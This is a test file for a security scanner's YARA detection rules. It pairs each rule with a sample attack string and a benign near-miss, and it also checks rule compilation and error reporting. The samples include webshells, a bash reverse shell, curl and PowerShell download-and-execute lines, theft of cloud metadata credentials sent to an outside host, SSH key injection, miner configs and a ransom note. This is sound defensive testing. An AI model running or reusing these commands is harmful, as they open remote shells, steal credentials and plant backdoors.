import { describe, expect, it } from 'vitest';
import { compileYaraRules } from '../../member/scanner/yara/compile-yara.js';
import { readYaraFolder } from '../../member/scanner/yara/yara-sources.js';

const { ruleset, problems, files } = compileYaraRules(readYaraFolder('rules/yara'));
const rulesOf = (text: string) => ruleset.matchingRules(Buffer.from(text, 'utf8')).filter((r) => r.startsWith('Skywatch_'));

/** Each of our rules with a realistic positive and the nearest benign text we could think of. */
const CASES: Array<[rule: string, positive: string, nearMiss: string]> = [
  ['Skywatch_Webshell_PHP_Eval_Request', '<?php\n@eval(base64_decode($_POST["cmd"]));\n?>', '<?php\n$config = json_decode(file_get_contents("config.json"));\necho htmlspecialchars($_POST["name"]);\n?>'],
  ['Skywatch_Webshell_PHP_Obfuscated_Loader', '<?php eval(gzinflate(base64_decode("7X1rcxs5kuB3/QoEJ0nDk1HZ")));', '<?php $data = gzinflate(base64_decode($blob)); file_put_contents("out.bin", $data);'],
  ['Skywatch_Webshell_JSP_Exec', '<%@ page import="java.io.*" %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>', '<%@ page import="java.io.*" %>\n<% String name = request.getParameter("name"); out.println(name); %>'],
  ['Skywatch_Webshell_ASPX_Process', '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]); %>', '<%@ Page Language="C#" %>\n<% Response.Write(Request.QueryString["q"]); %>'],
  ['Skywatch_Reverse_Shell_Oneliner', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'echo "checking /dev/tcp support"; bash -i script.sh'],
  ['Skywatch_Download_And_Execute', 'curl -fsSL http://198.51.100.23/x86.sh | sh', 'curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh'],
  ['Skywatch_PowerShell_Download_Cradle', 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/a\')"', 'powershell -File .\\build.ps1 -Configuration Release'],
  ['Skywatch_Cryptominer_Config', '{"autosave": true, "pools": [{"url": "stratum+tcp://pool.minexmr.example:4444", "user": "x"}]}', '{"pools": [{"name": "db-pool", "url": "postgres://db.internal:5432"}]}'],
  ['Skywatch_Instance_Credential_Harvesting', 'C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role)\ncurl -s -X POST --data "$C" http://203.0.113.50/collect', 'REGION=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\necho $REGION'],
  ['Skywatch_Ransom_Note', 'ATTENTION!\nAll your files are encrypted with military-grade encryption.\nSend 0.5 Bitcoin to the address below to get the key.', 'Backups: all files are encrypted at rest with KMS. Payment by bitcoin is not accepted.'],
  ['Skywatch_Authorized_Keys_Injection', 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGf3k9s8d7f6g5h4j3k2l1mnbvcxzasdfghjklqwer attacker" >> /root/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys | wc -l'],
];

describe('the bundled YARA rules', () => {
  it('all compile, with YARA-X and with the same rules native yara takes', () => {
    expect(problems).toEqual([]);
    expect(files).toEqual(['yara/signature-base/gen_suspicious_strings.yar', 'yara/skywatch/cloud-abuse.yar', 'yara/skywatch/shells-and-loaders.yar', 'yara/skywatch/webshells.yar']);
  });

  it.each(CASES)('%s matches its attack and not the nearest benign text', (rule, positive, nearMiss) => {
    expect(rulesOf(positive)).toEqual([rule]);
    expect(rulesOf(nearMiss)).toEqual([]);
  });

  it('finds a miner started with a wallet on its command line, and not a wallet alone', () => {
    const wallet = '4' + 'A' + 'bcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789'.repeat(2).slice(0, 93);
    expect(rulesOf(`nohup ./xmrig --donate-level 1 -o pool.example.net:3333 -u ${wallet} -p rig01 &`)).toEqual(['Skywatch_Cryptominer_Config']);
    expect(rulesOf(`Donations welcome: ${wallet}\nThe --donate-level option is documented below.`)).toEqual([]);
  });

  it('has a case for every Skywatch rule', () => {
    const ours = readYaraFolder('rules/yara').flatMap((s) => [...s.text.matchAll(/^rule (Skywatch_\w+)/gm)].map((m) => m[1]));
    expect(CASES.map(([rule]) => rule).sort()).toEqual(ours.sort());
  });

  it('reports severity, ASFF type and attribution from the rule meta, and masks the matched text', () => {
    const [match] = ruleset.scan(Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'));
    expect(match).toMatchObject({ kind: 'yara', rule: 'Skywatch_Reverse_Shell_Oneliner', severity: 'HIGH', findingType: 'TTPs/Execution/Reverse shell', offset: 10, line: 2, attribution: 'Skywatch', preview: 'bash****4444' });
  });
});

describe('compiling YARA rule files', () => {
  it('names the file and line of an error, leaves that file out and keeps the others', () => {
    const compiled = compileYaraRules([
      { file: 'yara/good.yar', text: 'rule Good_One {\n  strings:\n    $a = "skywatch-canary"\n  condition:\n    $a\n}\n' },
      { file: 'yara/typo.yar', text: 'rule Typo {\n  strings:\n    $a = "x"\n  condition:\n    $b\n}\n' },
      { file: 'yara/again.yar', text: '\n\nrule Good_One {\n  condition:\n    filesize > 0\n}\n' },
    ]);
    expect(compiled.problems).toEqual([
      { file: 'yara/typo.yar', line: 5, code: 'E025', message: 'unknown pattern `$b`' },
      { file: 'yara/again.yar', line: 3, code: 'E012', message: 'duplicate rule `Good_One`' },
    ]);
    expect(compiled.files).toEqual(['yara/good.yar']);
    expect(compiled.ruleset.matchingRules(Buffer.from('a skywatch-canary b'))).toEqual(['Good_One']);
  });

  it('sets the THOR/LOKI external variables for each object, so rules on file names work', () => {
    const { ruleset: r } = compileYaraRules([{ file: 'yara/names.yar', text: 'rule Env_File_In_Web_Root {\n  condition:\n    filename == ".env" and filepath contains "public/"\n}\n' }]);
    expect(r.matchingRules(Buffer.from('X=1'), { filename: '.env', filepath: 'site/public/.env', extension: '' })).toEqual(['Env_File_In_Web_Root']);
    expect(r.matchingRules(Buffer.from('X=1'), { filename: '.env', filepath: 'site/private/.env', extension: '' })).toEqual([]);
  });
});
